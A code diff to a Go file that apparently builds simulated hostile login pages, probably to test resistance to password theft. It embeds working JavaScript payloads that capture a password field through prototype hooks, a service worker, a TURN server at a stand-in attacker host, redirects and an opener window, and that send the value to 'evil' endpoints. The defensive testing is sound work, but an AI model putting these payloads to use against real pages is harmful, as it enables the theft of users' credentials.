@@ -182,13 +182,16 @@ func (p *Portal) readers() (out []trick) {
 		"prototype":     `const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'); Object.defineProperty(HTMLInputElement.prototype, 'value', {get() { const v = d.get.call(this); steal(v); return v }, set(v) { steal(v); d.set.call(this, v) }}); JSON.stringify = x => { steal(x); return '{}' }`,
 		"worker":        `navigator.serviceWorker.register('/hostile/worker.js')`,
 		"download":      `document.forms[0].onsubmit = () => { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([p.value])); a.download = 'p.txt'; a.click() }`,
-		"navigate":      `document.forms[0].onsubmit = () => { steal(p.value); setTimeout(() => location = evil + '/go?' + encodeURIComponent(p.value), 300) }`,
 		"rtc":           `p.oninput = () => { try { const c = new RTCPeerConnection({iceServers: [{urls: 'turns:attacker.evil.test', username: p.value, credential: p.value}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)) } catch {} }`,
 	} {
 		out = append(out, trick{name: name, gets: Once, says: "signed_in", html: p.with(script)})
 	}
-	// The window that it opens comes to the front.
-	return append(out, trick{name: "opener", gets: Perhaps, html: p.with(`const w = open(evil + '/opener'); p.oninput = () => { try { w.postMessage(p.value, '*') } catch {} ; name = p.value }`)})
+	return append(out,
+		// Which of the two navigations comes first is the browser's to say.
+		trick{name: "navigate", gets: Perhaps, says: "signed_in|more_steps", html: p.with(`document.forms[0].onsubmit = () => { steal(p.value); setTimeout(() => location = evil + '/go?' + encodeURIComponent(p.value), 300) }`)},
+		// The window that it opens comes to the front.
+		trick{name: "opener", gets: Perhaps, html: p.with(`const w = open(evil + '/opener'); p.oninput = () => { try { w.postMessage(p.value, '*') } catch {} ; name = p.value }`)},
+	)
 }
 
 // senders send it by other requests than the form's.
